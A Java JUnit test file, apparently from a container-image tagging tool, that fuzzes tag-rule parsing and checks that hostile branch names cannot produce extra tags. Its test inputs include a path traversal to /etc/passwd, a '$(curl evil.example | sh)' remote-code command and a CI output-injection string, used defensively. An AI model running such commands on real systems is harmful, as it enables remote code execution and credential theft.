package io.github.ecrpush.metadata;

import static org.assertj.core.api.Assertions.assertThat;

import io.github.ecrpush.testing.Fuzz;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/// Whatever the texts and the names of branches are, there is a tag that a registry takes, or a
/// failure that says why there is none.
class HostileRulesTest {

  private static final long SEED = 20_260_107;

  private static final List<String> PIECES =
      List.of(
          "type=",
          "semver",
          "pep440",
          "match",
          "edge",
          "ref",
          "raw",
          "sha",
          "schedule",
          ",",
          "\n",
          "pattern=",
          "value=",
          "match=",
          "group=",
          "event=branch",
          "event=pr",
          "branch=",
          "enable=",
          "priority=",
          "prefix=",
          "suffix=",
          "format=long",
          "{{version}}",
          "{{",
          "}}",
          "{{{",
          "}}}",
          "{{date 'YYYY",
          "' tz='UTC'}}",
          "{{is_default_branch}}",
          "{{branch}}",
          "\"",
          "#",
          "=",
          "(",
          ")",
          "(a+)+",
          "[",
          "]",
          "\\",
          "$",
          "^",
          "*",
          "{1,9}",
          "true",
          "false",
          "1.2.3",
          "v1",
          "-1",
          "\u0000",
          "🦜",
          "\u202e",
          "none",
          "latest",
          "/",
          "..",
          "\t",
          "a".repeat(200));

  @ParameterizedTest
  @ValueSource(
      strings = {
        "../../../etc/passwd",
        "$(curl evil.example | sh)",
        "a\nlatest",
        "a\r\n::set-output name=x::y",
        "🦜🦜",
        "-rf",
        ".hidden",
        "{{sha}}",
        "a,b\"c",
        "%0Alatest"
      })
  void a_branch_cannot_name_more_than_itself(String branch) {
    var rules = Rules.of("type=ref,event=branch\n{{branch}}\ntype=sha");

    var tags = rules.tagsFor(Sources.branch(branch));

    assertThat(tags).hasSizeLessThanOrEqualTo(2).doesNotContain("latest").contains("sha-1f0c3a5");
  }

  @Test
  void a_branch_of_300_characters_names_the_image() {
    var tags =
        Rules.of("type=ref,event=branch,suffix=-x").tagsFor(Sources.branch("f/".repeat(150)));

    assertThat(tags).singleElement().matches(tag -> tag.length() == 128);
  }

  @Test
  @Tag("fuzz")
  void any_text_makes_tags_or_a_failure_within_bounds() {
    Fuzz.of(HostileRulesTest::apply, Fuzz.failures("tag-rules-malformed", "no-tag-left"))
        .read(SEED, HostileRulesTest::text);
  }

  /// The text is the rules, the flavor of some and the ref of others.
  private static void apply(String text) {
    var flavor = text.length() % 4 == 0 ? text.substring(text.length() / 2) : "latest=auto";
    var ref = text.length() % 2 == 0 ? "refs/tags/" + text : "refs/heads/a";
    Rules.of(text).with(flavor).apply(Sources.of("push", ref));
  }

  private static String text(Random random) {
    var text = new StringBuilder();
    int pieces = 1 + random.nextInt(14);
    for (int i = 0; i < pieces; i++) {
      text.append(PIECES.get(random.nextInt(PIECES.size())));
    }
    return text.toString();
  }
}
